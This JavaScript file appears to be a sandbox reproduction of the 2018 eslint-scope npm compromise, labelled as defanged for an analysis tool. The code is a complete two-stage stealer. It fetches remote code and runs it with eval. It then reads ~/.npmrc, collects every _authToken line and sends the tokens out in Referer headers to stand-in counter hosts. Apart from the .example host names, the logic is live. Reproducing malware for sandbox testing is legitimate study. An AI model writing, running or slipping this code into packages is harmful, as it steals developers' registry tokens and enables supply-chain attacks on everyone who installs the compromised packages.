// DEFANGED reproduction of eslint-scope 3.7.2 / eslint-config-eslint 5.0.2 (12 July 2018).
// Only ever run inside `airlock scan`; every host here is answered by airlock's sink.
'use strict';
const https = require('https');

// Stage 1, as in the original: fetch the payload from a paste site and eval it.
function load(url) {
  https.get(url, (res) => {
    let data = '';
    res.on('data', (c) => { data += c; });
    res.on('end', () => {
      try {
        eval(data);
      } catch (e) {
        // Defanged: the sink answers with a dummy page; run the stage-2 shipped below,
        // which is what the original paste contained.
        stage2();
      }
    });
  }).on('error', () => stage2());
}

// Stage 2 (the original pastebin payload): read ~/.npmrc, pull out every _authToken
// line and send it to a page-counter service in the Referer header of an http.get.
function stage2() {
  let r;
  try {
    r = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8');
  } catch (e) {
    r = '';
  }
  const tokens = r.split('\n').filter((l) => l.includes('_authToken'));
  const send = (token) => {
    https.get({ hostname: 'sstatic1.counter-stats.example', path: '/0.gif?4103075&101', headers: { Referer: 'https://' + token } }, (res) => res.resume()).on('error', () => {});
    https.get({ hostname: 'c.page-counter.example', path: '/11760461/0/7b5b9d71/1/', headers: { Referer: 'https://' + token } }, (res) => res.resume()).on('error', () => {});
  };
  if (tokens.length === 0) send('none');
  tokens.forEach(send);
}

load('https://paste-mirror.example/raw/XLeVP82h');
